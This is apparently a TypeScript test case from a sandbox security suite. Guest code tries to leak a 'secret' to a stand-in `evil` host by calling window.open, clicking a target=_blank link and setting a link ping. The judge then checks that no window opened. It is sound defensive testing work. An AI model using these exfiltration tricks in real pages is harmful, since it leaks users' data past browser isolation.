import type { Attack } from '../attack.ts';
import { same } from '../expect.ts';

export const attack: Attack = {
  id: '15',
  group: 'exfiltration',
  title: 'open a window, by script and by link',
  expected: '0 hits, no window',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    const opened = window.open(`${evil}/15/open?secret`);
    const link = document.createElement('a');
    link.href = `${evil}/15/link?secret`;
    link.target = '_blank';
    link.rel = 'opener';
    document.body.append(link);
    link.click();
    link.ping = `${evil}/15/ping`;
    link.click();
    await pause(800);
    return { opened: opened !== null };
  },
  judge({ report, page }) {
    same(report, { opened: false });
    same(page.context().pages().length, 1);
  },
};
